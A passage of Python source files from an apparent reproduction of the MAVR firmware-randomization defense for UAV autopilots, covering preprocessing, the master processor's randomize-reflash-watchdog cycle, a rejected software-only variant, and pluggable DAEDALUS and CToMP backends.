    This is where the expensive full-stream decode happens — exactly
    once, on the host.  The resulting relocation index ships inside the
    HEX so every later re-randomization on the master is a decode-free
    fixup pass.  ``build_index=False`` reproduces the legacy format
    (masters fall back to the streaming patcher).
    """
    check_randomizable(image)
    image.validate()
    if verify_pointers:
        _verify_pointer_coverage(image)
    if build_index and image.reloc_index is None:
        image.reloc_index = build_relocation_index(image)
    return image.to_preprocessed_hex(include_index=build_index)


def preprocess_report(image: FirmwareImage) -> PreprocessReport:
    hex_text = preprocess(image)
    index = image.reloc_index
    return PreprocessReport(
        function_count=image.function_count(),
        funcptr_slots=len(image.funcptr_locations),
        text_bytes=image.text_end - image.text_start,
        hex_bytes=len(hex_text),
        index_sites=index.site_count if index is not None else 0,
        index_bytes=index.byte_length() if index is not None else 0,
    )


def _verify_pointer_coverage(image: FirmwareImage) -> None:
    """Every linker-known pointer slot must be findable by the binary scan.

    The production preprocessor only has the binary; if the scan misses a
    slot the randomized build would call through a stale pointer.
    """
    scanned = {candidate.location for candidate in scan_function_pointers(image)}
    missing = [loc for loc in image.funcptr_locations if loc not in scanned]
    if missing:
        raise DefenseError(
            f"function-pointer scan missed {len(missing)} slot(s): "
            + ", ".join(f"0x{loc:05x}" for loc in missing[:8])
        )


def load_preprocessed(hex_text: str) -> FirmwareImage:
    """Master-side: reconstruct the image+symbols from the external flash."""
    image = FirmwareImage.from_preprocessed_hex(hex_text)
    check_randomizable(image)
    return image
