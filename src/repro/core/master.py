"""The MAVR master processor (paper §V-A2, §VI).

The ATmega1284P that owns the defense at runtime:

* reads the preprocessed binary + symbols from the external flash,
* generates a fresh permutation and patches the binary,
* programs the application processor through the bootloader/ISP link
  (the Table II startup overhead),
* then watches the feed line; a failed ROP attack shows up as silence,
  upon which the master resets and re-randomizes immediately.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import List, Optional

from ..binfmt.image import FirmwareImage
from ..binfmt.relocindex import build_relocation_index
from ..errors import DefenseError
from ..hw.clock import SimClock
from ..hw.flashchip import ExternalFlash
from ..hw.isp import IspProgrammer
from ..hw.serialbus import PROTOTYPE_LINK, ProgrammingLink
from ..uav.autopilot import Autopilot
from .patching import randomize_image
from .policy import RandomizationPolicy
from .preprocess import check_randomizable
from .randomize import Permutation
from .watchdog import WatchdogConfig, WatchdogMonitor


@dataclass
class MasterStats:
    """Defense-side accounting."""

    boots: int = 0
    randomizations: int = 0
    attacks_detected: int = 0
    last_startup_overhead_ms: float = 0.0
    startup_overheads_ms: List[float] = field(default_factory=list)
    # mirrored from the ISP programmer after every boot so the policy
    # layer can throttle against the remaining endurance budget and price
    # re-randomization per page rather than per full image
    flash_cycles_remaining: Optional[int] = None
    last_pages_written: int = 0
    last_pages_skipped: int = 0
    last_bytes_on_wire: int = 0


class MasterProcessor:
    """Owns the external flash, the ISP link and the watchdog role."""

    def __init__(
        self,
        autopilot: Autopilot,
        policy: RandomizationPolicy = RandomizationPolicy(),
        link: ProgrammingLink = PROTOTYPE_LINK,
        watchdog: WatchdogConfig = WatchdogConfig(),
        rng: Optional[random.Random] = None,
    ) -> None:
        self.autopilot = autopilot
        self.policy = policy
        self.clock = SimClock()
        self.external_flash = ExternalFlash()
        self.isp = IspProgrammer(link, self.clock)
        self.watchdog_config = watchdog
        self.rng = rng if rng is not None else random.Random()
        self.stats = MasterStats()
        self.monitor = WatchdogMonitor(autopilot.feed, watchdog)
        self._original: Optional[FirmwareImage] = None
        self.current_image: Optional[FirmwareImage] = None
        self.last_permutation: Optional[Permutation] = None

    # -- deployment ---------------------------------------------------------

    def deploy(self, preprocessed_hex: str) -> None:
        """Receive the preprocessed HEX and store it on the external flash.

        Mirrors the flash utility: the HEX record stream is decoded on
        arrival and the chip holds the compact binary (code + symbol
        blob), which is what lets a 220 KB application plus its symbols
        squeeze into a chip sized like the application processor's flash.
        """
        image = FirmwareImage.from_preprocessed_hex(preprocessed_hex)
        blob = image.to_flash_blob()
        if not self.external_flash.fits(len(blob)):
            # the chip is sized like the application flash; when a huge
            # image leaves no room for the relocation index, ship without
            # it — the master rebuilds the index in RAM at first boot
            blob = image.to_flash_blob(include_index=False)
        self.external_flash.store(blob)
        self._original = None  # reparse on next boot

    def _original_image(self) -> FirmwareImage:
        if self._original is None:
            blob = self.external_flash.read_all()
            if not blob:
                raise DefenseError("no application deployed on the external flash")
            image = FirmwareImage.from_flash_blob(blob)
            check_randomizable(image)
            if image.reloc_index is None:
                # legacy deployment (or an index squeezed off the chip):
                # pay the full-stream decode once per deployment, in RAM
                image.reloc_index = build_relocation_index(image)
            self._original = image
        return self._original

    # -- boot sequence --------------------------------------------------------

    def boot(self, attack_detected: bool = False) -> float:
        """Power the system up (or recover it); returns startup overhead ms.

        The randomize step uses the relocation-index fast path (the index
        rode in on the external-flash blob), and the ISP transfer is
        differential: only pages the shuffle actually changed cross the
        wire, so a re-randomization costs a fraction of the Table II full
        transfer.
        """
        original = self._original_image()
        overhead_ms = 0.0
        if self.policy.should_randomize(self.stats.boots, attack_detected):
            randomized, permutation = randomize_image(original, self.rng)
            overhead_ms = self.isp.program(self.autopilot.cpu.flash, randomized.code)
            self.autopilot.adopt_image(randomized)
            self.current_image = randomized
            self.last_permutation = permutation
            self.stats.randomizations += 1
        else:
            self.autopilot.reset()
        self.stats.boots += 1
        self.stats.last_startup_overhead_ms = overhead_ms
        if overhead_ms:
            self.stats.startup_overheads_ms.append(overhead_ms)
        isp_stats = self.isp.stats
        self.stats.flash_cycles_remaining = self.isp.remaining_cycles
        self.stats.last_pages_written = isp_stats.last_pages_written
        self.stats.last_pages_skipped = isp_stats.last_pages_skipped
        self.stats.last_bytes_on_wire = isp_stats.last_bytes_on_wire
        self.monitor = WatchdogMonitor(self.autopilot.feed, self.watchdog_config)
        return overhead_ms

    # -- runtime monitoring ------------------------------------------------------

    def watch(self) -> bool:
        """One monitoring pass; on a detected failure, reset + re-randomize.

        Returns True when a failed attack was detected and handled.
        """
        crashed = self.autopilot.status.value == "crashed"
        silent = not self.monitor.check(self.autopilot.cpu.cycles)
        if crashed or silent:
            self.stats.attacks_detected += 1
            self.boot(attack_detected=True)
            return True
        return False

    def run(self, ticks: int, watch_every: int = 10) -> int:
        """Drive the autopilot with periodic monitoring; returns detections."""
        detections = 0
        for tick_index in range(ticks):
            self.autopilot.tick()
            if (tick_index + 1) % watch_every == 0:
                if self.watch():
                    detections += 1
        return detections

    # -- reporting ----------------------------------------------------------------

    def startup_overhead_ms(self) -> float:
        """Overhead of one full randomize+program cycle (Table II).

        A timing-model dry run: it prices the full sequential transfer of
        the deployed image without touching the application flash, the
        wear budget, or the boot/randomization counters.  (It used to
        *perform* a forced re-randomization just to read a number back —
        burning a flash write cycle and inflating the stats per call.)
        """
        image = self._original_image()
        return self.isp.estimate_full_ms(len(image.code))
