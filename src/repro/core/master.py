"""The MAVR master processor (paper §V-A2, §VI).

The ATmega1284P that owns the defense at runtime:

* reads the preprocessed binary + symbols from the external flash,
* generates a fresh permutation and patches the binary,
* programs the application processor through the bootloader/ISP link
  (the Table II startup overhead),
* then watches the feed line; a failed ROP attack shows up as silence,
  upon which the master resets and re-randomizes immediately.
"""

from __future__ import annotations

import random
from typing import List, Optional

from ..binfmt.image import FirmwareImage
from ..binfmt.relocindex import build_relocation_index
from ..errors import DefenseError
from ..hw.clock import SimClock
from ..hw.flashchip import ExternalFlash
from ..hw.isp import IspProgrammer
from ..hw.serialbus import PROTOTYPE_LINK, ProgrammingLink
from ..telemetry import CounterField, GaugeField, StatsView, Telemetry
from ..uav.autopilot import Autopilot
from .defenses import DefenseBackend, MavrBackend
from .policy import RandomizationPolicy
from .randomize import Permutation
from .watchdog import WatchdogConfig, WatchdogMonitor


class MasterStats(StatsView):
    """Defense-side accounting.

    A telemetry view over the metrics registry: the cumulative fields are
    monotonic counters (a decrement raises), the ``last_*`` fields are
    gauges.  The public fields are unchanged from the original dataclass.
    """

    component = "master"

    boots = CounterField("master.boots")
    randomizations = CounterField("master.randomizations")
    attacks_detected = CounterField("master.attacks_detected")
    last_startup_overhead_ms = GaugeField(
        "master.last_startup_overhead_ms", initial=0.0
    )
    # mirrored from the ISP programmer after every boot so the policy
    # layer can throttle against the remaining endurance budget and price
    # re-randomization per page rather than per full image
    flash_cycles_remaining = GaugeField(
        "master.flash_cycles_remaining", initial=None
    )
    last_pages_written = GaugeField("master.last_pages_written")
    last_pages_skipped = GaugeField("master.last_pages_skipped")
    last_bytes_on_wire = GaugeField("master.last_bytes_on_wire")

    def __init__(self, telemetry: Optional[Telemetry] = None, **labels) -> None:
        super().__init__(telemetry, **labels)
        self.startup_overheads_ms: List[float] = []


class MasterProcessor:
    """Owns the external flash, the ISP link and the watchdog role."""

    def __init__(
        self,
        autopilot: Autopilot,
        policy: RandomizationPolicy = RandomizationPolicy(),
        link: ProgrammingLink = PROTOTYPE_LINK,
        watchdog: WatchdogConfig = WatchdogConfig(),
        rng: Optional[random.Random] = None,
        telemetry: Optional[Telemetry] = None,
        backend: Optional[DefenseBackend] = None,
    ) -> None:
        self.autopilot = autopilot
        self.policy = policy
        self.clock = SimClock()
        self.telemetry = telemetry if telemetry is not None else Telemetry()
        self.telemetry.bind_clock(self.clock)
        self.backend = (backend if backend is not None else MavrBackend()).bind(
            self.telemetry
        )
        self.external_flash = ExternalFlash()
        self.isp = IspProgrammer(link, self.clock, telemetry=self.telemetry)
        self.watchdog_config = watchdog
        self.rng = rng if rng is not None else random.Random()
        self.stats = MasterStats(self.telemetry)
        self._startup_hist = self.telemetry.registry.own_histogram(
            "master.startup_overhead_ms", component="master"
        )
        self.monitor = WatchdogMonitor(autopilot.feed, watchdog)
        self._original: Optional[FirmwareImage] = None
        self.current_image: Optional[FirmwareImage] = None
        self.last_permutation: Optional[Permutation] = None
        # Optional forensics wiring (see repro.avr.trace.FlightRecorder /
        # repro.avr.profile.AvrProfiler): when a Board attaches them, a
        # detection freezes a forensic bundle *before* recovery reboots
        # the core and destroys the evidence.
        self.flight_recorder = None
        self.profiler = None
        self.last_forensic_bundle: Optional[dict] = None
        self._register_cpu_collector()

    def _register_cpu_collector(self) -> None:
        """Publish engine/CPU counters by sampling at snapshot time.

        Pull-style on purpose: the execution engine's retire loop stays
        untouched, so the disabled-path overhead of telemetry on the
        simulator's hottest path is exactly zero.
        """
        autopilot = self.autopilot
        app = autopilot.image.name
        # cursors into the engines' append-only build logs: entries
        # already folded into a histogram are not re-observed at the next
        # snapshot
        fusion_cursor = [0]
        compile_cursor = [0]

        def collect(registry) -> None:
            cpu = autopilot.cpu
            def sample(name: str, value) -> None:
                registry.gauge(name, component="cpu", app=app).set(value)

            retired_total = cpu.instructions_lifetime + cpu.instructions_retired
            sample("cpu.instructions_retired", cpu.instructions_retired)
            sample("cpu.instructions_lifetime", retired_total)
            sample("cpu.cycles", cpu.cycles)
            sample("cpu.cycles_lifetime", cpu.cycles_lifetime + cpu.cycles)
            sample("cpu.interrupts_serviced", cpu.interrupts_serviced)
            sample("flash.generation", cpu.flash.generation)
            engine = cpu.engine
            if hasattr(engine, "decode_misses"):
                sample("engine.decode_misses", engine.decode_misses)
                sample("engine.cache_rebuilds", engine.rebuilds)
                sample(
                    "engine.decode_cache_hits",
                    max(retired_total - engine.decode_misses, 0),
                )
            if hasattr(engine, "blocks_built"):
                sample("avr.blocks.built", engine.blocks_built)
                sample("avr.blocks.entered", engine.blocks_entered)
                lengths = engine.fusion_lengths
                fresh = lengths[fusion_cursor[0]:]
                if fresh:
                    histogram = registry.histogram(
                        "avr.blocks.fusion_length",
                        buckets=(1, 2, 4, 8, 16, 24, 32),
                        component="cpu",
                        app=app,
                    )
                    for length in fresh:
                        histogram.observe(length)
                    fusion_cursor[0] = len(lengths)
            if hasattr(engine, "compiled_built"):
                sample("avr.compiled.built", engine.compiled_built)
                sample("avr.compiled.entered", engine.compiled_entered)
                times = engine.compile_times_ms
                fresh_times = times[compile_cursor[0]:]
                if fresh_times:
                    histogram = registry.histogram(
                        "avr.compiled.compile_ms",
                        buckets=(0.1, 0.25, 0.5, 1.0, 2.5, 5.0, 10.0),
                        component="cpu",
                        app=app,
                    )
                    for elapsed_ms in fresh_times:
                        histogram.observe(elapsed_ms)
                    compile_cursor[0] = len(times)

        self.telemetry.add_collector(collect)

    # -- deployment ---------------------------------------------------------

    def deploy(self, preprocessed_hex: str) -> None:
        """Receive the preprocessed HEX and store it on the external flash.

        Mirrors the flash utility: the HEX record stream is decoded on
        arrival and the chip holds the compact binary (code + symbol
        blob), which is what lets a 220 KB application plus its symbols
        squeeze into a chip sized like the application processor's flash.
        """
        image = FirmwareImage.from_preprocessed_hex(preprocessed_hex)
        blob = image.to_flash_blob()
        if not self.external_flash.fits(len(blob)):
            # the chip is sized like the application flash; when a huge
            # image leaves no room for the relocation index, ship without
            # it — the master rebuilds the index in RAM at first boot
            blob = image.to_flash_blob(include_index=False)
        self.external_flash.store(blob)
        self._original = None  # reparse on next boot

    def deploy_blob(self, blob: bytes) -> None:
        """Store a ready-made external-flash blob (the artifact fast path).

        The blob is byte-identical to what :meth:`deploy` would have
        stored for the same preprocessed HEX — it was captured off a
        cold deployment and content-addressed by the artifact cache —
        so the decode/encode round-trip is skipped without changing a
        single byte on the chip.
        """
        self.external_flash.store(blob)
        self._original = None  # reparse on next boot

    def _original_image(self) -> FirmwareImage:
        if self._original is None:
            blob = self.external_flash.read_all()
            if not blob:
                raise DefenseError("no application deployed on the external flash")
            image = FirmwareImage.from_flash_blob(blob)
            self.backend.check_deployable(image)
            if image.reloc_index is None and self.backend.requires_randomizable:
                # legacy deployment (or an index squeezed off the chip):
                # pay the full-stream decode once per deployment, in RAM
                image.reloc_index = build_relocation_index(image)
            self._original = image
        return self._original

    # -- boot sequence --------------------------------------------------------

    def boot(self, attack_detected: bool = False) -> float:
        """Power the system up (or recover it); returns startup overhead ms.

        The randomize step uses the relocation-index fast path (the index
        rode in on the external-flash blob), and the ISP transfer is
        differential: only pages the shuffle actually changed cross the
        wire, so a re-randomization costs a fraction of the Table II full
        transfer.
        """
        telemetry = self.telemetry
        with telemetry.span("mavr.boot", attack_detected=attack_detected) as span:
            original = self._original_image()
            overhead_ms = 0.0
            randomized_this_boot = False
            if attack_detected and not self.backend.reflashes_on_detection:
                # zero-reflash recovery: the backend repairs the running
                # core in place, no page crosses the ISP link
                with telemetry.span("mavr.recover", backend=self.backend.name):
                    overhead_ms = self.backend.recover(self)
            elif self.backend.should_diversify(
                self.policy, self.stats.boots, attack_detected
            ):
                randomized_this_boot = True
                with telemetry.span("mavr.randomize"):
                    randomized, permutation = self.backend.diversify(
                        original, self.rng
                    )
                with telemetry.span("mavr.reflash"):
                    overhead_ms = self.isp.program(
                        self.autopilot.cpu.flash, randomized.code
                    )
                self.autopilot.adopt_image(randomized)
                self.current_image = randomized
                self.last_permutation = permutation
                self.stats.randomizations += 1
            else:
                self.autopilot.reset()
            self.stats.boots += 1
            self.stats.last_startup_overhead_ms = overhead_ms
            if overhead_ms:
                self.stats.startup_overheads_ms.append(overhead_ms)
                self._startup_hist.observe(overhead_ms)
            isp_stats = self.isp.stats
            self.stats.flash_cycles_remaining = self.isp.remaining_cycles
            self.stats.last_pages_written = isp_stats.last_pages_written
            self.stats.last_pages_skipped = isp_stats.last_pages_skipped
            self.stats.last_bytes_on_wire = isp_stats.last_bytes_on_wire
            self.monitor = WatchdogMonitor(self.autopilot.feed, self.watchdog_config)
            if span is not None:
                span.attrs.update(
                    randomized=randomized_this_boot, overhead_ms=overhead_ms
                )
        return overhead_ms

    # -- runtime monitoring ------------------------------------------------------

    def watch(self) -> bool:
        """One monitoring pass; on a detected failure, recover per backend.

        Detection is the union of a crashed core, watchdog silence, and
        the backend's own integrity probe.  Recovery is the backend's
        call: re-diversify + reflash (mavr/daedalus) or an in-place
        context restore (ctomp).  Healthy passes give the backend a
        checkpointing opportunity.  Returns True when a failure was
        detected and handled.
        """
        crashed = self.autopilot.status.value == "crashed"
        now_cycles = self.autopilot.cpu.cycles
        silent = not self.monitor.check(now_cycles)
        corrupted = not (crashed or silent) and self.backend.check(self)
        if crashed or silent or corrupted:
            telemetry = self.telemetry
            if silent:
                telemetry.emit(
                    "watchdog.starved",
                    now_cycles=now_cycles,
                    last_feed_cycle=self.monitor.feed.last_feed_cycle,
                    window_cycles=self.monitor.config.window_cycles,
                )
            if crashed and self.autopilot.crash is not None:
                crash = self.autopilot.crash
                telemetry.emit(
                    "autopilot.crashed", reason=crash.reason,
                    pc_bytes=crash.pc_bytes, cycle=crash.cycle,
                )
            cause = (
                "crash" if crashed
                else "watchdog_silence" if silent
                else "integrity"
            )
            telemetry.emit("attack.detected", cause=cause, boots=self.stats.boots)
            self.stats.attacks_detected += 1
            if self.flight_recorder is not None:
                crash = self.autopilot.crash
                self.last_forensic_bundle = self.flight_recorder.bundle(
                    reason=f"attack detected ({cause})",
                    kind="attack_detected",
                    symbols=self.autopilot.debug_symbols,
                    telemetry=telemetry,
                    profiler=self.profiler,
                    fault_pc=(
                        crash.pc_bytes if crashed and crash is not None else None
                    ),
                )
            with telemetry.span("mavr.rerandomize", cause=cause):
                self.boot(attack_detected=True)
            return True
        self.backend.observe_healthy(self)
        return False

    def run(self, ticks: int, watch_every: int = 10) -> int:
        """Drive the autopilot with periodic monitoring; returns detections."""
        detections = 0
        with self.telemetry.span(
            "mavr.run", ticks=ticks, watch_every=watch_every
        ) as span:
            for tick_index in range(ticks):
                self.autopilot.tick()
                if (tick_index + 1) % watch_every == 0:
                    if self.watch():
                        detections += 1
            if span is not None:
                span.attrs["detections"] = detections
        return detections

    # -- reporting ----------------------------------------------------------------

    def startup_overhead_ms(self) -> float:
        """Overhead of one full randomize+program cycle (Table II).

        A timing-model dry run: it prices the full sequential transfer of
        the deployed image without touching the application flash, the
        wear budget, or the boot/randomization counters.  (It used to
        *perform* a forced re-randomization just to read a number back —
        burning a flash write cycle and inflating the stats per call.)
        """
        image = self._original_image()
        return self.isp.estimate_full_ms(len(image.code))
