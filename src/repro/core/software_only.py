"""The software-only defense the paper considered and rejected (§VIII-A).

"Initially a software only solution was contemplated … randomize the
application binary at flash time as it was being written into the board."

Two flaws, both reproduced here:

1. **One permutation for the device's lifetime.**  Failed attempts leak
   information; an attacker who can distinguish failures brute-forces a
   fixed layout in E = (N+1)/2 attempts instead of ~N, and the layout
   never rotates away from partial knowledge.
2. **No fault tolerance.**  A failed ROP attempt leaves the application
   processor executing garbage; without a master processor there is
   nothing on board to reset it — recovery requires cycling the power,
   "extremely difficult when a UAV is in flight".
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import Optional

from ..binfmt.image import FirmwareImage
from ..uav.autopilot import Autopilot, AutopilotStatus
from .patching import randomize_image
from .preprocess import check_randomizable
from .randomize import Permutation


@dataclass
class SoftwareOnlyStats:
    attacks_crashed: int = 0
    power_cycles_needed: int = 0


class SoftwareOnlyDefense:
    """Flash-time randomization with no runtime hardware support."""

    def __init__(self, image: FirmwareImage, seed: Optional[int] = None) -> None:
        check_randomizable(image)
        self._original = image
        randomized, permutation = randomize_image(image, random.Random(seed))
        # the single permutation this device will ever have
        self.image: FirmwareImage = randomized
        self.permutation: Permutation = permutation
        self.autopilot = Autopilot(randomized)
        self.stats = SoftwareOnlyStats()

    def run(self, ticks: int) -> AutopilotStatus:
        """Fly; there is no watchdog, so nothing reacts to a crash."""
        for _ in range(ticks):
            self.autopilot.tick()
        if self.autopilot.status is AutopilotStatus.CRASHED:
            self.stats.attacks_crashed += 1
        return self.autopilot.status

    @property
    def recovered_in_flight(self) -> bool:
        """Always False after a crash: no master to pulse the reset line."""
        return self.autopilot.status is AutopilotStatus.RUNNING

    def power_cycle(self) -> None:
        """Ground intervention: the only recovery path (§VIII-A).

        Note what does *not* happen: the layout stays the same — the
        attacker's accumulated knowledge remains valid.
        """
        self.stats.power_cycles_needed += 1
        self.autopilot.reflash(self.image)  # same bytes, same permutation
