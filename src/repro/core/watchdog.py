"""Master-side timing analysis of the feed line (paper §V-A2 / §VI-A).

"Post randomization the master processor then assumes a role similar to a
watchdog timer listening to the application processor.  By doing so the
master processor can easily detect when a failed attack has occurred since
the application processor will not feed the master by signaling high for a
period of time."

The firmware toggles a GPIO once per control loop; the master alarms when
no toggle arrives within a window of expected loop periods.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional

from ..avr.devices import FeedLine


@dataclass(frozen=True)
class WatchdogConfig:
    """Timing-analysis parameters."""

    # expected control-loop period, in CPU cycles (a generous bound)
    expected_period_cycles: int = 100_000
    # how many missed periods before the master declares a failed attack
    missed_periods_threshold: int = 4

    @property
    def window_cycles(self) -> int:
        return self.expected_period_cycles * self.missed_periods_threshold


class WatchdogMonitor:
    """Evaluates liveness and restart signatures from feed-line events."""

    def __init__(self, feed: FeedLine, config: WatchdogConfig = WatchdogConfig()) -> None:
        self.feed = feed
        self.config = config
        self.alarms = 0

    def alive(self, now_cycles: int) -> bool:
        """Has the application fed the watchdog recently enough?"""
        last = self.feed.last_feed_cycle
        if last is None:
            # never fed: alive only within the startup grace window
            return now_cycles < self.config.window_cycles
        return now_cycles - last <= self.config.window_cycles

    def unexpected_boot(self) -> bool:
        """More than one boot pulse since the master released reset.

        The first pulse is the legitimate startup announcement; any further
        pulse means the application walked back through the reset vector —
        the footprint of a failed code-reuse attempt.
        """
        return len(self.feed.boot_pulses) > 1

    def check(self, now_cycles: int) -> bool:
        """Full timing analysis; records an alarm on failure."""
        ok = self.alive(now_cycles) and not self.unexpected_boot()
        if not ok:
            self.alarms += 1
        return ok

    def observed_period(self) -> Optional[float]:
        """Mean cycles between feed toggles (diagnostics)."""
        events = self.feed.events
        if len(events) < 2:
            return None
        first_cycle = events[0][0]
        last_cycle = events[-1][0]
        return (last_cycle - first_cycle) / (len(events) - 1)
