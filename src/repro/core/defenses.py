"""Pluggable defense backends behind one master-processor pipeline.

The master's lifecycle (deploy → boot → watch → recover) is fixed; what
varies between mitigation schemes is *how* an image is prepared, how a
boot diversifies it, and what recovery after a detection costs.
:class:`DefenseBackend` captures exactly that variation:

* ``mavr`` — the paper's function-block randomization, byte-identical to
  the pre-backend pipeline: same RNG stream, same indexed fast path,
  same policy schedule, recovery = re-randomize + differential reflash.
* ``daedalus`` — DAEDALUS-style stochastic software diversity at
  sub-block granularity with load-time re-diversification: *every* boot
  draws a fresh layout.  When the chip has free flash above the data
  section the sub-blocks scatter with stochastic gaps (the §VIII-B
  padding machinery); when ``.text`` already fills the chip — every
  paper app — it falls back to the in-place sub-block shuffle through
  the same relocation-index fast path MAVR uses.
* ``ctomp`` — CToMP-style cycle-task memory protection: no layout
  secrecy at all.  The master checkpoints the task context (data space,
  PC, SREG) at every healthy watch pass and, on a detection, restores
  it in place — zero pages reflashed, zero flash wear, millisecond
  recovery — plus a stack-bound integrity check each watch pass.

Backends publish their accounting through :class:`DefenseStats`, a
telemetry view labelled ``backend=<name>`` so per-backend counters stay
distinct in one registry.
"""

from __future__ import annotations

import random
from typing import Optional, Tuple

from ..avr.memory import DATA_SPACE_SIZE, FLASH_SIZE, RAMEND, SRAM_BASE
from ..binfmt.image import FirmwareImage
from ..binfmt.symtab import DATA_SPACE_FLAG
from ..errors import DefenseError
from ..telemetry import CounterField, GaugeField, StatsView, Telemetry
from ..uav.autopilot import AutopilotStatus
from .padding import padded_entropy_bits, randomize_image_padded
from .patching import randomize_image
from .policy import RandomizationPolicy
from .preprocess import check_randomizable, preprocess
from .randomize import Permutation, layout_entropy_bits
from .splitting import split_image_blocks

#: backend names accepted by ``MavrSystem``, ``ScenarioSpec`` and the CLI
DEFENSE_BACKENDS = ("mavr", "daedalus", "ctomp")

#: CToMP context-restore timing model: an on-chip copy of the task
#: context back into SRAM, far below any ISP transfer
CTOMP_RESTORE_BASE_MS = 0.2
CTOMP_RESTORE_BYTES_PER_MS = 8192.0


class DefenseStats(StatsView):
    """Backend-side accounting, one instrument set per backend label."""

    component = "defense"

    #: fresh layouts generated (every randomize/scatter; 0 for ctomp)
    diversifications = CounterField("defense.diversifications")
    #: recoveries that wrote no flash page (ctomp restores / cold resets)
    zero_reflash_recoveries = CounterField("defense.zero_reflash_recoveries")
    #: task-context snapshots captured at healthy watch passes
    checkpoints = CounterField("defense.checkpoints")
    #: integrity probes run during watch passes
    integrity_checks = CounterField("defense.integrity_checks")
    #: shuffleable units in the last generated layout
    last_layout_units = GaugeField("defense.last_layout_units")


class DefenseBackend:
    """One mitigation scheme plugged into the master processor.

    Subclasses override the hooks; the defaults reproduce the MAVR
    pipeline's behavior so ``MavrBackend`` stays a pure delegation.
    """

    #: registry name (also the telemetry label)
    name = "backend"
    #: True: a detection is handled by re-diversify + reflash (the boot
    #: path); False: the master calls :meth:`recover` instead
    reflashes_on_detection = True
    #: True: deployment requires a randomizable build (--no-relax etc.)
    #: and a relocation index is worth building for re-randomization
    requires_randomizable = True

    def __init__(self) -> None:
        self.stats = DefenseStats()

    def bind(self, telemetry: Optional[Telemetry]) -> "DefenseBackend":
        """Attach accounting to the board's telemetry registry."""
        self.stats = DefenseStats(telemetry, backend=self.name)
        return self

    # -- host / deploy phase ------------------------------------------------

    def preprocess(self, image: FirmwareImage) -> str:
        """Host-side pass: image -> preprocessed HEX for the external flash."""
        return preprocess(image)

    def check_deployable(self, image: FirmwareImage) -> None:
        """Reject images this backend cannot protect."""
        check_randomizable(image)

    # -- boot phase ---------------------------------------------------------

    def should_diversify(
        self, policy: RandomizationPolicy, boot_count: int, attack_detected: bool
    ) -> bool:
        """Does this boot generate (and program) a fresh layout?"""
        return policy.should_randomize(boot_count, attack_detected)

    def diversify(
        self, image: FirmwareImage, rng: random.Random
    ) -> Tuple[FirmwareImage, Optional[Permutation]]:
        """Produce the image to program this boot."""
        raise NotImplementedError

    # -- watch phase --------------------------------------------------------

    def observe_healthy(self, master) -> None:
        """Called on every watch pass that found the application healthy."""

    def check(self, master) -> bool:
        """Extra integrity probe; True = corruption detected."""
        return False

    def recover(self, master) -> float:
        """Zero-reflash recovery after a detection; returns latency in ms.

        Only reached when :attr:`reflashes_on_detection` is False.  The
        fallback is a plain reset — subclasses model something better.
        """
        master.autopilot.reset()
        self.stats.zero_reflash_recoveries += 1
        return 0.0

    # -- analysis -----------------------------------------------------------

    def entropy_bits(self, image: FirmwareImage) -> float:
        """Layout entropy an attacker must overcome against this backend."""
        raise NotImplementedError


class MavrBackend(DefenseBackend):
    """The paper's function-block randomization (behavior-preserving)."""

    name = "mavr"

    def diversify(
        self, image: FirmwareImage, rng: random.Random
    ) -> Tuple[FirmwareImage, Optional[Permutation]]:
        randomized, permutation = randomize_image(image, rng)
        self.stats.diversifications += 1
        self.stats.last_layout_units = len(permutation.moves)
        return randomized, permutation

    def entropy_bits(self, image: FirmwareImage) -> float:
        return layout_entropy_bits(image.function_count())


class DaedalusBackend(DefenseBackend):
    """Sub-block stochastic diversity with load-time re-diversification.

    Granularity comes from :mod:`repro.core.splitting` (functions cut at
    every safe point, the relocation index carried over).  Placement is
    adaptive: scatter with stochastic gaps over the free flash when the
    image leaves room (``testapp``); in-place sub-block shuffle through
    the indexed fast path when ``.text`` fills the chip (every paper
    app — the same headroom limit that made §VIII-B drop padding).
    """

    name = "daedalus"

    def __init__(self, flash_size: int = FLASH_SIZE) -> None:
        super().__init__()
        self.flash_size = flash_size
        self._split_of: Optional[Tuple[FirmwareImage, FirmwareImage]] = None

    def split(self, image: FirmwareImage) -> FirmwareImage:
        """The sub-block re-tiling of ``image`` (cached per source)."""
        if self._split_of is None or self._split_of[0] is not image:
            self._split_of = (image, split_image_blocks(image))
        return self._split_of[1]

    def scatters(self, image: FirmwareImage) -> bool:
        """Is there enough free flash to place blocks with random gaps?"""
        free_start = max(image.data_end, image.text_end)
        total_code = sum(s.size for s in image.symbols.functions())
        return self.flash_size - free_start > total_code

    def should_diversify(
        self, policy: RandomizationPolicy, boot_count: int, attack_detected: bool
    ) -> bool:
        # load-time re-diversification: every boot draws a fresh layout,
        # regardless of the wear-throttling schedule
        return True

    def diversify(
        self, image: FirmwareImage, rng: random.Random
    ) -> Tuple[FirmwareImage, Optional[Permutation]]:
        split = self.split(image)
        if self.scatters(split):
            randomized, permutation = randomize_image_padded(
                split, rng, self.flash_size
            )
        else:
            randomized, permutation = randomize_image(split, rng)
        self.stats.diversifications += 1
        self.stats.last_layout_units = len(permutation.moves)
        return randomized, permutation

    def entropy_bits(self, image: FirmwareImage) -> float:
        split = self.split(image)
        if self.scatters(split):
            return padded_entropy_bits(split, self.flash_size)
        return layout_entropy_bits(split.function_count())


class CtompBackend(DefenseBackend):
    """Cycle-task memory protection: recover in place, never reflash.

    No layout secrecy: the image runs as built, and the one programming
    pass is the initial install.  Instead the master checkpoints the
    cycle task's context — the whole data space (which contains SP),
    the PC and SREG — at every healthy watch pass.  A detection restores
    the last good context directly into the running core: flash is
    untouched (decode caches stay valid, wear stays zero) and the
    latency is an on-chip memory copy, not an ISP transfer.  Each watch
    pass also runs a stack-bound probe: a stack pointer below the static
    data's top means the cycle task's frame chain is corrupt.
    """

    name = "ctomp"
    reflashes_on_detection = False
    requires_randomizable = False

    def __init__(self) -> None:
        super().__init__()
        self._checkpoint: Optional[Tuple[bytes, int, int]] = None
        self._stack_floor: Optional[int] = None

    def preprocess(self, image: FirmwareImage) -> str:
        # no layout transformation ahead: any structurally valid build
        # deploys, including stock toolchain images MAVR must reject
        image.validate()
        return image.to_preprocessed_hex(include_index=False)

    def check_deployable(self, image: FirmwareImage) -> None:
        pass  # no toolchain constraint: the image is never randomized

    def should_diversify(
        self, policy: RandomizationPolicy, boot_count: int, attack_detected: bool
    ) -> bool:
        return boot_count == 0  # the initial install, nothing more

    def diversify(
        self, image: FirmwareImage, rng: random.Random
